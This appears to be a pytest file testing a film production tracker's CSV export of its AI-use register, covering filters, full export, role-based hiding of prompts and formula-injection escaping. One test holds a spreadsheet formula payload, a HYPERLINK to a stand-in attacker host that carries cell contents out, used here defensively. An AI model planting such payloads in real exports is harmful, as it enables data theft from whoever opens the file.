"""The AI-use register as CSV: every matching use (not just one page), the page's filters applied,
prompts only for producers and compliance admins, and no cell a spreadsheet would run as a formula.
"""

import csv
import datetime
import io

import pytest
from django.http import StreamingHttpResponse

from studio_tracker.lib import safe_csv
from studio_tracker.productions import changes
from studio_tracker.usage import entries

from .conftest import PROFESSIONAL_NAME, PROMPT, add_tool, open_to_union_reps

pytestmark = pytest.mark.django_db


def download(client, user, production, **params):
    client.force_login(user)
    response = client.get(f"/productions/{production.pk}/register/", {"format": "csv", **params})
    assert response.status_code == 200
    return response


def rows_of(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def log_on_new_shots(cast, evidence, count: int, **fields) -> list:
    start = cast.production_a.shots.count()
    shots = [
        changes.create_shot(actor=None, production=cast.production_a, code=f"LN_SQ030_SH{n:04d}")
        for n in range(start, start + count)
    ]
    data = {
        "tool": evidence.tool,
        "department": "vfx",
        "category": "set_extension",
        "modality": "video",
        "disposition": "final_background",
        "used_on": datetime.date(2025, 4, 1),
        **fields,
    }
    return entries.log_usage_on_shots(
        actor=cast.cora, production=cast.production_a, shots=shots, **data
    )


def test_the_register_downloads_as_a_streaming_csv_attachment(client, cast, evidence):
    response = download(client, cast.pat, cast.production_a)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="the-long-night-ai-register.csv"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    [row] = rows_of(response)
    assert row["id"] == str(evidence.entry.pk)
    assert row["shot"] == "LN_SQ010_SH0010"
    assert row["used on"] == "2025-03-01"
    assert row["category"] == "De-aging"
    assert row["department"] == "VFX"
    assert row["tool"] == "FaceForge"
    assert row["where it ended up"] == "In the final picture: key element"
    assert row["replica"] == "Employment-based digital replica"
    assert row["performers"] == f"{PROFESSIONAL_NAME} (face, covered)"
    assert row["prompt"] == PROMPT


def test_the_csv_at_its_own_address_is_the_same(client, cast, evidence):
    client.force_login(cast.pat)
    response = client.get(f"/productions/{cast.production_a.pk}/register.csv")
    assert response.status_code == 200
    assert [row["id"] for row in rows_of(response)] == [str(evidence.entry.pk)]


def test_the_csv_holds_every_matching_use_not_just_one_page(client, cast, evidence):
    log_on_new_shots(cast, evidence, 64)
    rows = rows_of(download(client, cast.cora, cast.production_a))
    assert len(rows) == 65
    assert len({row["id"] for row in rows}) == 65


def test_the_register_filters_apply_to_the_csv(client, cast, evidence):
    log_on_new_shots(cast, evidence, 3)
    other = add_tool(cast, name="CleanPlate", vendor="Plate Co")
    log_on_new_shots(cast, evidence, 2, tool=other, disposition="temp", department="editorial")

    def ids(**params) -> set[str]:
        return {
            row["id"] for row in rows_of(download(client, cast.cora, cast.production_a, **params))
        }

    assert len(ids()) == 6
    assert ids(category="deaging") == {str(evidence.entry.pk)}
    assert len(ids(category="set_extension")) == 5
    assert len(ids(tool=other.pk)) == 2
    assert len(ids(disposition="temp", department="editorial")) == 2
    assert len(ids(disposition="temp", department="vfx")) == 0
    assert ids(performer=evidence.performer.pk) == {str(evidence.entry.pk)}
    by_shot = rows_of(download(client, cast.cora, cast.production_a, sort="shot"))
    assert [row["shot"] for row in by_shot] == sorted(row["shot"] for row in by_shot)


def test_the_page_links_to_the_csv_of_what_it_shows(client, cast, evidence):
    client.force_login(cast.cora)
    page = client.get(
        f"/productions/{cast.production_a.pk}/register/", {"category": "deaging"}
    ).content.decode()
    assert 'href="?category=deaging&amp;format=csv"' in page


def test_the_prompt_column_is_only_for_producers_and_compliance_admins(client, cast, evidence):
    for user in (cast.pat, cast.cam):
        response = download(client, user, cast.production_a)
        assert rows_of(response)[0]["prompt"] == PROMPT
    for user in (cast.cora,):
        text = b"".join(download(client, user, cast.production_a).streaming_content).decode()
        assert "prompt" not in text.splitlines()[0]
        assert PROMPT not in text
    open_to_union_reps(cast.production_a)
    text = b"".join(download(client, cast.uma, cast.production_a).streaming_content).decode()
    assert PROMPT not in text


def test_union_reps_and_distributors_get_no_csv_before_they_may_read(client, cast, evidence):
    url = f"/productions/{cast.production_a.pk}/register/?format=csv"
    for user in (cast.uma, cast.dina, cast.olga):
        client.force_login(user)
        assert client.get(url).status_code == 404


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, cast, evidence, start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    entries.update_usage(
        evidence.entry,
        actor=cast.pat,
        description=payload,
        prompt_text=payload,
        external_ref=f"{start}1+2",
    )
    [row] = rows_of(download(client, cast.pat, cast.production_a))
    for column in ("description", "prompt"):
        assert row[column] == "'" + payload
    assert row["external ref"] == f"'{start}1+2"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=SUM(A1:A3)", "'=SUM(A1:A3)"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5 frames", "'-5 frames"),
        ("@cmd", "'@cmd"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (True, "yes"),
        (datetime.date(2025, 3, 1), "2025-03-01"),
        (42, "42"),
        (-3, "'-3"),
    ],
)
def test_each_cell_is_neutralised_when_it_starts_like_a_formula(value, expected):
    assert safe_csv.cell(value) == expected


def test_the_csv_lines_quote_what_needs_quoting():
    text = "".join(safe_csv.lines([["a", 'say "hi"', "two\nlines", "=1"]]))
    assert text == '\ufeffa,"say ""hi""","two\nlines",\'=1\r\n'
